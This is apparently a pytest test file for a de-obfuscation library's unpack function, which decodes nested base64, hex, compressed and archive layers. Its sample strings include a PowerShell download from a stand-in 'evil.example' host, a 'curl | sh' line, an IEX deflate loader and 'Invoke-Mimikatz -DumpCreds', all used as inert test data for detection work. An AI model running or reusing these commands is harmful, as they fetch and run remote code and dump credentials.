"""Everything unpack must find, and the shape of what it reports."""

from __future__ import annotations

import base64
import bz2
import gzip
import hashlib
import lzma
import urllib.parse
import zipfile
import zlib

import pytest

from asisdk.decode import Layer, Unpacked, unpack

from .builders import b64, check_offsets, make_tar, make_zip

SCRIPT = "Invoke-WebRequest http://evil.example/payload.ps1 -OutFile C:\\Temp\\p.ps1"


def only(result: Unpacked) -> Layer:
    assert len(result.layers) == 1, result.layers
    return result.layers[0]


@pytest.mark.parametrize("padded", [True, False])
def test_standard_base64_with_and_without_padding(padded: bool) -> None:
    encoded = b64(SCRIPT + "!")
    assert encoded.endswith("=")
    if not padded:
        encoded = encoded.rstrip("=")
    text = f"cmd /c echo {encoded} | more"
    result = unpack(text)
    layer = only(result)
    assert layer.encoding == "base64"
    assert layer.text == SCRIPT + "!"
    assert layer.source == encoded
    assert text[layer.start : layer.end] == encoded
    assert result.text == f"cmd /c echo {SCRIPT}! | more"


def test_url_safe_base64() -> None:
    payload = "??>>" + SCRIPT + "~~"
    encoded = base64.urlsafe_b64encode(payload.encode()).decode().rstrip("=")
    assert "-" in encoded or "_" in encoded
    layer = only(unpack(f"token={encoded}"))
    assert layer.encoding == "base64url"
    assert layer.text == payload


def test_layer_fields_and_hashes() -> None:
    layer = only(unpack("x " + b64(SCRIPT)))
    data = SCRIPT.encode()
    assert layer.index == "1"
    assert layer.parent is None
    assert layer.depth == 1
    assert layer.data == data
    assert layer.file_type == "text"
    assert layer.file_name is None
    assert layer.error is None
    assert layer.md5 == hashlib.md5(data).hexdigest()
    assert layer.sha1 == hashlib.sha1(data).hexdigest()
    assert layer.sha256 == hashlib.sha256(data).hexdigest()


def test_mime_wrapped_base64() -> None:
    body = base64.encodebytes((SCRIPT * 4).encode()).decode().replace("\n", "\r\n")
    assert body.count("\r\n") > 2
    text = "Content-Transfer-Encoding: base64\r\n\r\n" + body + "\r\n--boundary--"
    result = unpack(text)
    layer = only(result)
    assert layer.text == SCRIPT * 4
    check_offsets(text, result)


def test_pem_armoured_base64() -> None:
    body = base64.encodebytes(make_zip({"a.txt": b"armoured " * 20})).decode()
    text = f"-----BEGIN CERTIFICATE-----\n{body}-----END CERTIFICATE-----\n"
    result = unpack(text)
    assert [layer.encoding for layer in result.layers] == ["base64", "zip"]
    assert result.layers[0].file_type == "zip"
    assert result.layers[1].text == "armoured " * 20
    assert result.layers[1].file_name == "a.txt"
    check_offsets(text, result)


def test_base64_in_url_path_and_query() -> None:
    token = b64(SCRIPT).rstrip("=")
    path = f"https://cdn.example.com/a/{token}/index.html"
    assert only(unpack(path)).text == SCRIPT
    query = f"https://cdn.example.com/run?id=7&q={b64(SCRIPT)}&z=1"
    assert only(unpack(query)).text == SCRIPT


def test_percent_encoded_base64_in_query_string() -> None:
    encoded = b64(b" subprocess.run(['calc.exe']) ??>>" * 3)
    assert "+" in encoded
    assert "/" in encoded
    url = "https://x.example.com/?q=" + urllib.parse.quote(encoded, safe="") + "&z=1"
    result = unpack(url)
    assert [layer.encoding for layer in result.layers] == ["percent", "base64"]
    percent, inner = result.layers
    assert percent.source == url
    assert inner.parent == "1"
    assert inner.depth == 2
    assert inner.text == " subprocess.run(['calc.exe']) ??>>" * 3
    assert result.text == "https://x.example.com/?q=" + inner.text + "&z=1"
    check_offsets(url, result)


def test_percent_encoding_alone_is_not_a_layer() -> None:
    assert unpack("https://example.com/My%20Documents/file%2Ename.txt").layers == ()


def test_data_uri() -> None:
    result = unpack('<img src="data:text/plain;charset=utf-8;base64,aGkgdGhlcmU=">')
    assert only(result).text == "hi there"


@pytest.mark.parametrize("switch", ["-EncodedCommand", "-enc", "-e", "-ec", "-EnCoDeD", "/enc"])
def test_powershell_encoded_command(switch: str) -> None:
    command = "whoami /all"
    encoded = b64(command.encode("utf-16le"))
    text = f"powershell.exe -NoP -sta {switch} {encoded}"
    result = unpack(text)
    layer = only(result)
    assert layer.encoding == "base64"
    assert layer.text == command
    assert layer.data == command.encode("utf-16le")
    assert result.text == f"powershell.exe -NoP -sta {switch} {command}"


def test_short_powershell_payload_is_found_through_its_switch() -> None:
    assert only(unpack("powershell -e ZABpAHIA")).text == "dir"
    # Without the switch a token this short is not examined.
    assert unpack("echo ZABpAHIA").layers == ()


def test_utf16le_bytes_come_out_as_text() -> None:
    layer = only(unpack("blob " + b64("Get-ChildItem C:\\Users -Recurse".encode("utf-16le"))))
    assert layer.text == "Get-ChildItem C:\\Users -Recurse"
    assert layer.file_type == "text"


@pytest.mark.parametrize(
    ("kind", "compress"),
    [
        ("gzip", gzip.compress),
        ("zlib", zlib.compress),
        ("bz2", bz2.compress),
        ("xz", lzma.compress),
    ],
)
def test_compressed_streams(kind: str, compress: object) -> None:
    assert callable(compress)
    payload = (SCRIPT + "\n") * 10
    result = unpack("data " + b64(compress(payload.encode())))
    assert [layer.encoding for layer in result.layers] == ["base64", kind]
    outer, inner = result.layers
    assert outer.file_type == kind
    assert outer.text is None
    assert inner.text == payload
    assert inner.source == ""
    assert (inner.start, inner.end) == (0, len(outer.data))
    assert result.text == "data " + payload


def test_raw_deflate_as_powershell_uses_it() -> None:
    compressor = zlib.compressobj(wbits=-15)
    raw = compressor.compress((SCRIPT * 3).encode()) + compressor.flush()
    text = (
        "IEX (New-Object IO.StreamReader(New-Object IO.Compression.DeflateStream("
        f"[IO.MemoryStream][Convert]::FromBase64String('{b64(raw)}'),"
        "[IO.Compression.CompressionMode]::Decompress))).ReadToEnd()"
    )
    result = unpack(text)
    assert [layer.encoding for layer in result.layers] == ["base64", "deflate"]
    assert result.layers[0].file_type == "binary"
    assert result.layers[1].text == SCRIPT * 3


def test_gzip_header_name_is_the_file_name() -> None:
    import io

    buffer = io.BytesIO()
    with gzip.GzipFile(filename="stage2.ps1", mode="wb", fileobj=buffer) as handle:
        handle.write(b"Write-Host stage two")
    result = unpack(b64(buffer.getvalue()))
    assert result.layers[1].file_name == "stage2.ps1"
    assert result.layers[1].text == "Write-Host stage two"


@pytest.mark.parametrize("compression", [zipfile.ZIP_STORED, zipfile.ZIP_DEFLATED])
def test_zip_with_several_members(compression: int) -> None:
    members = {"one.txt": b"first member text", "dir/two.ps1": b"Write-Output 'second'"}
    archive = make_zip(members, compression=compression)
    result = unpack("zip:" + b64(archive))
    assert [(layer.index, layer.encoding) for layer in result.layers] == [
        ("1", "base64"),
        ("1.1", "zip"),
        ("1.2", "zip"),
    ]
    assert result.layers[0].file_type == "zip"
    assert [(layer.file_name, layer.text) for layer in result.layers[1:]] == [
        ("one.txt", "first member text"),
        ("dir/two.ps1", "Write-Output 'second'"),
    ]
    for layer in result.layers[1:]:
        assert layer.parent == "1"
        assert layer.depth == 2
        assert layer.end > layer.start
    assert "[zip member one.txt]\nfirst member text" in result.text


def test_tar_and_tar_gz() -> None:
    archive = make_tar({"notes.txt": b"plain tar member", "run.sh": b"curl http://x | sh"})
    result = unpack(b64(archive))
    assert [layer.encoding for layer in result.layers] == ["base64", "tar", "tar"]
    assert [layer.file_name for layer in result.layers[1:]] == ["notes.txt", "run.sh"]
    assert result.layers[2].text == "curl http://x | sh"
    assert result.layers[2].data == archive[result.layers[2].start : result.layers[2].end]

    nested = unpack(b64(gzip.compress(archive)))
    assert [layer.encoding for layer in nested.layers] == ["base64", "gzip", "tar", "tar"]
    assert nested.layers[1].file_type == "tar"
    assert [layer.index for layer in nested.layers] == ["1", "1.1", "1.1.1", "1.1.2"]


def test_bytes_input_that_is_an_archive() -> None:
    result = unpack(gzip.compress(make_zip({"x.txt": b"inside a zip inside gzip"})))
    assert [layer.encoding for layer in result.layers] == ["gzip", "zip"]
    assert result.layers[0].depth == 1
    assert result.layers[1].text == "inside a zip inside gzip"


def test_bytes_input_that_is_text() -> None:
    result = unpack(("echo " + b64(SCRIPT)).encode())
    assert result.text == "echo " + SCRIPT


@pytest.mark.parametrize(
    "encoded",
    [
        SCRIPT.encode().hex(),
        SCRIPT.encode().hex().upper(),
        "".join(f"\\x{byte:02x}" for byte in SCRIPT.encode()),
        ", ".join(f"0x{byte:02x}" for byte in SCRIPT.encode()),
        " ".join(f"{byte:02x}" for byte in SCRIPT.encode()),
    ],
)
def test_hex_strings(encoded: str) -> None:
    layer = only(unpack(f"payload = '{encoded}'"))
    assert layer.encoding == "hex"
    assert layer.text == SCRIPT


@pytest.mark.parametrize(
    "encoded",
    [
        "+".join(f"[char]{ord(c)}" for c in "IEX calc"),
        ",".join(f"[Char]{ord(c)}" for c in "IEX calc"),
        "&".join(f"Chr({ord(c)})" for c in "IEX calc"),
        ",".join(str(ord(c)) for c in "IEX calc"),
        ", ".join(str(ord(c)) for c in "Привет, IEX calc"),
    ],
)
def test_char_code_arrays(encoded: str) -> None:
    layer = only(unpack(f"$x = ({encoded}) -join ''"))
    assert layer.encoding == "charcode"
    assert layer.text is not None
    assert layer.text.endswith("IEX calc")


def test_several_layers_in_document_order() -> None:
    text = f"a {b64('first payload here')} b {b64('second payload here')} c"
    result = unpack(text)
    assert [(layer.index, layer.text) for layer in result.layers] == [
        ("1", "first payload here"),
        ("2", "second payload here"),
    ]
    assert result.text == "a first payload here b second payload here c"


def nest(text: str, levels: int) -> str:
    for _ in range(levels):
        text = b64(text)
    return text


def test_nesting_to_twenty_levels() -> None:
    result = unpack(nest("the bottom of the well", 20))
    assert len(result.layers) == 20
    assert [layer.depth for layer in result.layers] == list(range(1, 21))
    assert result.layers[-1].index == ".".join(["1"] * 20)
    assert result.layers[-1].text == "the bottom of the well"
    assert result.text == "the bottom of the well"
    assert all(layer.error is None for layer in result.layers)


def test_nesting_beyond_the_depth_limit_is_reported_on_the_last_layer() -> None:
    result = unpack(nest("the bottom of the well", 24))
    assert len(result.layers) == 20
    assert result.layers[-1].error is not None
    assert "max_depth=20" in result.layers[-1].error
    deeper = unpack(nest("the bottom of the well", 24), max_depth=30)
    assert len(deeper.layers) == 24
    assert deeper.text == "the bottom of the well"


def test_nesting_through_archives_and_compression() -> None:
    inner = "powershell -enc " + b64("Start-Process calc.exe".encode("utf-16le"))
    level = gzip.compress(make_zip({"stage.txt": inner.encode()}))
    text = "stage1 " + b64(b"\x1f\x8b" + level[2:])
    result = unpack(text)
    assert [layer.encoding for layer in result.layers] == ["base64", "gzip", "zip", "base64"]
    assert result.layers[-1].text == "Start-Process calc.exe"
    assert result.layers[-1].index == "1.1.1.1"
    assert result.text.endswith("powershell -enc Start-Process calc.exe")


def test_binary_of_a_known_format_is_a_marker() -> None:
    pe = bytearray(256)
    pe[:2] = b"MZ"
    pe[60:64] = (128).to_bytes(4, "little")
    pe[128:132] = b"PE\x00\x00"
    result = unpack("drop " + b64(bytes(pe)))
    layer = only(result)
    assert layer.file_type == "pe"
    assert layer.text is None
    assert result.text.startswith("drop [pe 256 bytes 4d5a0000")


def test_utf16le_text_read_as_single_bytes() -> None:
    hidden = "Invoke-Mimikatz -DumpCreds"
    blob = b"\x00\x01junk" + hidden.encode("utf-16le") + b"\x00\xff\xfe"
    result = unpack(blob)
    layer = only(result)
    assert layer.encoding == "utf-16le"
    assert layer.text == hidden
    assert layer.data == hidden.encode("utf-16le")
    assert hidden in result.text
    line = "log: " + hidden.encode("utf-16le").decode("latin-1") + " end"
    assert unpack(line).text == f"log: {hidden} end"


def test_hex_of_a_compressed_stream() -> None:
    blob = gzip.compress(b"hex wrapped gzip payload")
    result = unpack("$b = '" + blob.hex() + "'")
    assert [layer.encoding for layer in result.layers] == ["hex", "gzip"]
    assert result.layers[0].file_type == "gzip"
    assert result.layers[1].text == "hex wrapped gzip payload"


def test_layer_repr_is_short() -> None:
    result = unpack("x " + b64(gzip.compress(bytes(1_000_000))))
    assert len(repr(result)) < 2000
